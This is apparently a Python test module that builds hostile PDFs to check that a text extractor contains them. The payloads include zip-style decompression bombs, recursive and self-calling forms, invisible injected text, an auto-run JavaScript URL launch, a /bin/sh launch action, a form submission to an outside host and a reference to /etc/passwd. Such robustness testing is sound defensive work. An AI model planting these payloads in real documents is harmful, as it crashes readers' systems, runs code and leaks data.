"""PDF files that are hostile by what they unpack to, and by what their pages draw."""

import zlib

from syllabi import UnreadKind
from tests.builders import make_pdf, paragraph
from tests.syllabi.hostile_file import (
    ELSEWHERE,
    GOOD_WORDS,
    HostileFile,
    deflated_repeats,
    zlib_repeats,
)
from tests.syllabi.raw_pdf import pdf_of_pages, stream, written

GOOD = written(GOOD_WORDS)
MEGABYTE = 1_000_000
_FLATE = b"/Filter/FlateDecode"
# A bomb is ended by the limits of memory or time, or left out with its page.
_CONTAINED = (
    UnreadKind.TOO_BIG,
    UnreadKind.TIMEOUT,
    UnreadKind.CRASHED,
    UnreadKind.NO_TEXT,
    UnreadKind.DAMAGED,
    UnreadKind.UNSAFE,
)


def flate_bomb() -> bytes:
    return pdf_of_pages([stream(zlib_repeats(b" " * MEGABYTE, 1_000), _FLATE)])


def double_flate_bomb() -> bytes:
    squeezed = deflated_repeats(bytes(MEGABYTE), 1)
    inner = b"\x78\xda" + squeezed[:-2]
    outer = zlib_repeats(inner + squeezed[:-2] * 999, 4)
    return pdf_of_pages([stream(outer, b"/Filter[/FlateDecode/FlateDecode]")])


def operators(n_megabytes: int) -> bytes:
    block = written("x") * (MEGABYTE // len(written("x")))
    return pdf_of_pages([stream(zlib_repeats(block, n_megabytes), _FLATE)])


def forms_that_call_forms(levels: int = 8) -> bytes:
    """Each of ten lines calls the next form: ten to the power of `levels` words."""
    forms = {}
    for level in range(levels):
        called = b"/X Do\n" * 10 if level + 1 < levels else written("infant")
        following = b"/XObject<</X %d 0 R>>" % (10_001 + level)
        facts = b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</Font<</F1 3 0 R>>%b>>"
        forms[10_000 + level] = stream(called, facts % following)
    return pdf_of_pages([stream(b"/X Do\n")], forms, b"/XObject<</X 10000 0 R>>")


def form_that_calls_itself() -> bytes:
    facts = b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]/Resources<</XObject<</X 10000 0 R>>>>"
    form = {10_000: stream(b"/X Do\n", facts)}
    return pdf_of_pages([stream(GOOD + b"/X Do\n")], form, b"/XObject<</X 10000 0 R>>")


def letters_up_to_four_thousand_million() -> bytes:
    ranges = b"1 beginbfrange <00000000> <ffffffff> <0041> endbfrange"
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 10001 0 R>>"
    more = {10_000: font, 10_001: stream(b"/CIDInit findresource begin " + ranges)}
    page = stream(GOOD + b"BT /F2 12 Tf 72 600 Td (abc) Tj ET")
    return pdf_of_pages([page], more).replace(b"/F1 3 0 R", b"/F1 3 0 R/F2 10000 0 R")


def string_of(n_megabytes: int) -> bytes:
    text = zlib_repeats(b"infant " * 142_857, n_megabytes)[:-2]
    opening = deflated_repeats(b"BT /F1 12 Tf 72 700 Td (", 1)[:-2]
    ending = deflated_repeats(b") Tj ET", 1)
    return pdf_of_pages([stream(b"\x78\xda" + opening + text[2:] + ending, _FLATE)])


def many_pages(n_pages: int) -> bytes:
    return pdf_of_pages([stream(written("a"))] * n_pages)


def nested_arrays() -> bytes:
    return pdf_of_pages([stream(GOOD + b"[" * 100_000 + b"]" * 100_000 + b" TJ")])


def many_lines() -> bytes:
    grid = b"".join(b"%d 0 m %d 792 l S\n" % (n % 600, n % 600) for n in range(30_000))
    rows = b"".join(b"0 %d m 612 %d l S\n" % (n % 790, n % 790) for n in range(30_000))
    page = stream(zlib.compress(GOOD + grid + rows), _FLATE)
    return pdf_of_pages([page] * 20)


def letters_in_one_place() -> bytes:
    return pdf_of_pages([stream(written("infant attachment ") * 30_000)])


def invisible_words() -> bytes:
    hidden = b"BT /F1 12 Tf 3 Tr 72 600 Td (Attachment is taught here.) Tj ET"
    return pdf_of_pages([stream(GOOD + hidden)])


def things_to_run() -> bytes:
    actions = (
        f"/AA<</O<</S/JavaScript/JS(app.launchURL('{ELSEWHERE}'))>>>>"
        f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 600 700]/A<</S/URI/URI({ELSEWHERE})>>>>"
        "<</Type/Annot/Subtype/Link/Rect[0 0 600 700]/A<</S/Launch/F(/bin/sh)>>>>"
        f"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F({ELSEWHERE})>>>>]"
    )
    return pdf_of_pages([stream(GOOD)], page_facts=actions.encode())


def picture_and_font_from_elsewhere() -> bytes:
    external = b"/F(/etc/passwd)/FFilter/FlateDecode"
    address = b"/FS/URL/F(%b)" % ELSEWHERE.encode()
    more = {
        10_000: stream(b"", b"/Type/XObject/Subtype/Image/Width 9/Height 9" + external),
        10_001: stream(b"", address),
    }
    page = stream(GOOD + b"/X Do\n")
    return pdf_of_pages([page], more, b"/XObject<</X 10000 0 R>>")


def absurd_page() -> bytes:
    whole = pdf_of_pages([stream(GOOD)])
    return whole.replace(b"[0 0 612 792]", b"[-1e30 0 1e38 9e99]")


PDF_FILES: tuple[HostileFile, ...] = tuple(
    HostileFile(name, "a.pdf", build, kinds, words)
    for name, build, kinds, words in (
        ("Flate bomb, 1 GB", flate_bomb, _CONTAINED, ""),
        ("double Flate bomb, 4 GB", double_flate_bomb, _CONTAINED, ""),
        ("100 MB of operators", lambda: operators(100), _CONTAINED, ""),
        ("forms that call forms, 10⁸", forms_that_call_forms, _CONTAINED, "infant"),
        ("form that calls itself", form_that_calls_itself, (), GOOD_WORDS),
        (
            "range of 4 thousand million letters",
            letters_up_to_four_thousand_million,
            (),
            GOOD_WORDS,
        ),
        ("string of 50 MB", lambda: string_of(50), _CONTAINED, "infant"),
        ("20,000 pages", lambda: many_pages(20_000), (UnreadKind.TOO_BIG,), ""),
        ("100,000 nested arrays", nested_arrays, (), GOOD_WORDS),
        ("60,000 ruling lines on 20 pages", many_lines, _CONTAINED, GOOD_WORDS),
        ("30,000 words in one place", letters_in_one_place, _CONTAINED, "infant"),
        ("invisible words", invisible_words, (), GOOD_WORDS),
        ("scripts, programs, forms to send", things_to_run, (), GOOD_WORDS),
        ("picture and font from elsewhere", picture_and_font_from_elsewhere, (), GOOD_WORDS),
        ("page of 10³⁸ points", absurd_page, _CONTAINED, GOOD_WORDS),
        (
            "a password",
            lambda: make_pdf([paragraph(GOOD_WORDS)], password="secret"),  # noqa: S106
            (UnreadKind.PASSWORD,),
            "",
        ),
    )
)
